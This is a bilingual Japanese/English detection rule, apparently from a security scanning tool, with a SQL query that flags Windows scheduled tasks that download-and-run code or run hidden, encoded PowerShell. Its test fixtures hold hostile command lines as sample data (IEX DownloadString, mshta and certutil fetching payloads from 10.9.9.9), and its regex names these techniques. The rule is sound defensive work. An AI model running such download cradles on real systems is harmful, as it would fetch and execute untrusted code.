/*---
title: {ja: 定期実行が外から取ったものや隠した命令を動かしている, en: A scheduled task runs what it downloads or hides}
severity: high
subject: asset
key: [asset, task]
scope: select asset from hosts where platform = 'windows'
why:
  ja: 取り込んで動かす、符号化して隠す、といった書き方は、攻撃でよく使われます。正しい用途でも、取り先が奪われれば何でも動きます。
  en: Downloading and running, or hiding a command in code, is how attacks are written. Even meant well, whoever takes the source runs anything.
message:
  ja: "{asset}: 定期実行 {task}: {command}"
  en: "{asset}: the task {task}: {command}"
fix:
  cost: none
  ja: 作った人に確かめてください。分からなければネットワークから外して調べてください。
  en: Ask who made it. If nobody knows, take the machine off the network and look into it.
  run: |
    schtasks /query /tn "NAME" /v /fo list
    schtasks /change /tn "NAME" /disable
ask:
  ja: この定期実行を作ったか、中身は何かを確認してください。
  en: Ask whether they made the task and what it does.
examples:
  now: 2026-01-31
  bad:
    hosts: [{asset: a, platform: windows}, {asset: lx, platform: linux}]
    tasks:
      - {asset: a, name: '\1', command: 'powershell.exe -nop -w hidden -enc SQBFAFgA'}
      - {asset: a, name: '\2', command: 'powershell -c "IEX (New-Object Net.WebClient).DownloadString(''http://10.9.9.9/a'')"'}
      - {asset: a, name: '\3', command: 'C:\Windows\System32\mshta.exe http://10.9.9.9/a.hta'}
      - {asset: a, name: '\4', command: 'certutil -urlcache -f http://10.9.9.9/a a.exe'}
      - {asset: a, name: '\5', command: 'powershell -enc AAAA', enabled: false}
      - {asset: a, name: '\6', command: 'powershell -File C:\Tools\report.ps1'}
      - {asset: lx, name: x, command: 'powershell -enc AAAA'}
    fails: [[a, '\1'], [a, '\2'], [a, '\3'], [a, '\4']]
  good:
    hosts: [{asset: a, platform: windows}]
    tasks: [{asset: a, name: '\Ok', command: 'powershell.exe -ExecutionPolicy RemoteSigned -File C:\Tools\x.ps1'}]
    passes: [a]
---*/
select asset, name as task, command, evidence
from tasks
where regexp_matches(lower(command), 'powershell.* -e(nc?|ncodedcommand)? |downloadstring|downloadfile|mshta(.exe)? +https?:|certutil.*urlcache|bitsadmin.*transfer')
  and enabled is not false
